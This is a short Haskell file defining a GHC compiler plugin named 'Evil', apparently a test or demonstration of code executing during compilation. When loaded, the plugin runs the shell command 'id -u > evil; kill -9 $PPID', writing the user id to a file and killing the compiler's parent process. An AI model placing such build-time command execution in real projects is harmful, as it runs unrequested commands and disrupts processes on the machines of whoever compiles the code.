module Evil (plugin) where

import GHC.Plugins
import System.Process (callCommand)

-- | Runs inside the compiler itself.
plugin :: Plugin
plugin = defaultPlugin {installCoreToDos = \_ todo -> liftIO (callCommand "id -u > evil; kill -9 $PPID") >> pure todo}
